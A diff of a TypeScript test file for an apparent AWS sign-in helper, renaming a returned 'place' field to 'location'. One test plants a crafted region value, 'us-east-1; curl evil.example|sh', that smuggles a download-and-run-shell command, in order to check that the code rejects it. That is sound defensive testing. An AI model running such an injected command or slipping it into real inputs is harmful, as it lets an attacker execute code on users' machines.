@@ -13,7 +13,7 @@ type OwnPortal = Extract<PortalChoice, { kind: "own" }>;
 
 function open(choice: OwnPortal, { files = memoryFiles() } = {}) {
   const system = fakeSystem({ instead: files });
-  return { place: ownLocation(choice, { system, home: "/home/me", nrt: false }) };
+  return { location: ownLocation(choice, { system, home: "/home/me", nrt: false }) };
 }
 
 describe("ownLocation()", () => {
@@ -21,9 +21,9 @@ describe("ownLocation()", () => {
     const files = memoryFiles();
     await storeImportedToken(files, folder, "https://other.awsapps.com/start", token, {});
     await storeImportedToken(files, folder, startUrl, token, {});
-    const { place } = open({ kind: "own", startUrl: undefined, region: undefined }, { files });
-    expect(await place).toMatchObject({ startUrl, region: "eu-west-1", given: false });
-    expect((await place).loginHint).toBe(
+    const { location } = open({ kind: "own", startUrl: undefined, region: undefined }, { files });
+    expect(await location).toMatchObject({ startUrl, region: "eu-west-1", given: false });
+    expect((await location).loginHint).toBe(
       `sign in with: aws-login login --start-url ${startUrl} --sso-region eu-west-1`,
     );
     expect(files.log).toContain(`check ${folder}`);
@@ -31,13 +31,13 @@ describe("ownLocation()", () => {
 
   test("ownLocation() remembers the portal of a new sign-in", async () => {
     const files = memoryFiles();
-    await (await open({ kind: "own", startUrl, region: undefined }, { files }).place).loggedIn();
+    await (await open({ kind: "own", startUrl, region: undefined }, { files }).location).loggedIn();
     expect(await portals(files, folder)).toEqual([startUrl]);
   });
 
   test("ownLocation() says how to sign in when no portal was ever used", async () => {
     const failure = await failureOf(
-      () => open({ kind: "own", startUrl: undefined, region: undefined }).place,
+      () => open({ kind: "own", startUrl: undefined, region: undefined }).location,
     );
     expect(failure.kind).toBe("sign-in-needed");
     expect(failure.hints.join()).toContain("importcache");
@@ -46,18 +46,18 @@ describe("ownLocation()", () => {
   test("ownLocation() refuses another region than the stored one", async () => {
     const files = memoryFiles();
     await storeImportedToken(files, folder, startUrl, token, {});
-    const { place } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
-    expect((await failureOf(() => place)).kind).toBe("usage");
+    const { location } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
+    expect((await failureOf(() => location)).kind).toBe("usage");
     const same = open({ kind: "own", startUrl, region: "eu-west-1" }, { files });
-    expect((await same.place).region).toBe("eu-west-1");
+    expect((await same.location).region).toBe("eu-west-1");
   });
 
   test("ownLocation() takes the region that a login found where a company's own host leads", async () => {
     const files = memoryFiles();
     const own = "https://aws.example.com/start";
     await storeImportedToken(files, folder, own, { ...token, startUrl: own }, {});
-    const { place } = open({ kind: "own", startUrl: own, region: "us-east-1" }, { files });
-    expect((await place).region).toBe("eu-west-1");
+    const { location } = open({ kind: "own", startUrl: own, region: "us-east-1" }, { files });
+    expect((await location).region).toBe("eu-west-1");
   });
 
   test("ownLocation() refuses a stored region that is none, and names the file", async () => {
@@ -65,7 +65,7 @@ describe("ownLocation()", () => {
     const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
     await storeImportedToken(files, folder, startUrl, crafted, {});
     const failure = await failureOf(
-      () => open({ kind: "own", startUrl, region: undefined }, { files }).place,
+      () => open({ kind: "own", startUrl, region: undefined }, { files }).location,
     );
     expect(failure.message).toStartWith(
       `cannot use the region of the sign-in in ${ownTokenPath(folder, startUrl)}: `,
